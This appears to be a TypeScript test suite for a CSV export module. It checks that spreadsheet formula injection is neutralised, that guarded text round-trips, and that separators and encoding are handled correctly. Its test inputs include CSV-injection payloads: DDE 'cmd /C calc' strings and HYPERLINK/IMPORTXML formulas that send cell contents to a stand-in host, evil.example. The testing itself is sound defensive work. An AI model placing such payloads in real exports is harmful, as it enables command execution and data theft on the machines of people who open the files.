import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { locales } from "@/lib/core/locales";
import { separatorFor } from "./choose-separator";
import { formatCsvLine, guardFormula, keepUnguarded, unguardFormula, writeCsv } from "./write-csv";

const naughty = JSON.parse(readFileSync("tests/corpora/naughty-strings.json", "utf8")) as string[];
const signs = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
const before = ["", " ", "   ", '"', "'", "''", ' "', "\u00a0", "\u3000", "\ufeff", "\u200b"];
const payloads = [
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1",=2+2',
  '-2+3+cmd|" /C calc"!A0',
  '+cmd|" /C calc"!A0',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '"=1+1"',
  "'=1+1",
  ";=1+1",
  "x\n=1+1",
  "x;@SUM(1)",
];
const dangerous = [
  ...signs.flatMap((sign) => before.map((lead) => `${lead}${sign}1+1`)),
  ...payloads,
  ...naughty,
];
/** As a spreadsheet sees a cell: skipped characters removed first. */
const beginsFormula = (cell: string) => /^[\s\p{Cf}"]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell);
const withoutUnseen = (text: string) =>
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are meant
  text.replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f]/g, "");

describe("a CSV file", () => {
  it.each(["=1", " =1", '"=1', "＝1", "\t1", "-1", "+49 1"])(
    "never starts a cell as a formula: %j",
    (text) => {
      expect(guardFormula(text)).toBe(`'${text}`);
    },
  );

  it("leaves ordinary texts unchanged", () => {
    for (const text of [
      "RB123456785GB",
      "a-b",
      "Müller & Söhne",
      "12,5 kg",
      "x@y.example",
      "O'Hara",
      "a\nb",
      "",
    ])
      expect(guardFormula(text)).toBe(text);
  });

  it("contains every dangerous text unchanged and harmless, in any position of a row, read by another parser", () => {
    for (const text of dangerous) {
      const visible = withoutUnseen(text);
      const line = formatCsvLine([text, "x", text]);
      const rows = parse(line, { relaxColumnCount: false }) as string[][];
      expect(rows).toEqual([[guardFormula(visible), "x", guardFormula(visible)]]);
      expect(rows.flat().filter(beginsFormula)).toEqual([]);
      expect(unguardFormula(rows[0]?.[0] ?? "")).toBe(visible);
    }
  });

  it("starts no formula either where a spreadsheet separates by semicolon or tab", () => {
    for (const text of dangerous)
      for (const cell of formatCsvLine([text]).split(/[;\t\r\n]/))
        expect(beginsFormula(cell.replace(/^[\s"]+/, ""))).toBe(false);
  });

  it("restores every text", () => {
    const text = fc.string({ unit: fc.constantFrom(...signs, "'", '"', ";", " ", "a", "1", "\ufeff", ",") });
    fc.assert(
      fc.property(
        text,
        (one) => unguardFormula(guardFormula(one)) === one && unguardFormula(keepUnguarded(one)) === one,
      ),
      { numRuns: 3000, seed: 4 },
    );
  });

  it("checks the longest texts in linear time", () => {
    const long = [" ", "'", "\t", ";", ";'", "\n "].map((unit) => unit.repeat(200_000));
    for (const text of long) expect(unguardFormula(guardFormula(text))).toBe(text);
  });

  it("separates cells as asked, and unasked as spreadsheets of the language expect", () => {
    expect(formatCsvLine(["a", "b;c"], "semicolon")).toBe('a;"b;c"\r\n');
    expect(formatCsvLine(["1.5", -1.5], "semicolon")).toBe("1.5;-1,5\r\n");
    expect(formatCsvLine(["a", "b\tc"], "tab")).toBe('a\t"b\tc"\r\n');
    expect(locales.map(separatorFor)).toEqual(["comma", ...Array(4).fill("semicolon"), "comma"]);
  });

  it("begins with a byte order mark, ends each line with CRLF, and reads rows on demand", async () => {
    let requested = 0;
    async function* rows() {
      for (;;) {
        requested += 1;
        yield [["1", "ä"]];
      }
    }
    const pieces = writeCsv(["a", "b,c"], rows());
    const first = await pieces.next();
    expect(Buffer.from(first.value ?? [])).toEqual(Buffer.from('\ufeffa,"b,c"\r\n'));
    expect(requested).toBe(0);
    expect(Buffer.from((await pieces.next()).value ?? []).toString()).toBe("1,ä\r\n");
    await pieces.return();
    expect(requested).toBe(1);
  });
});
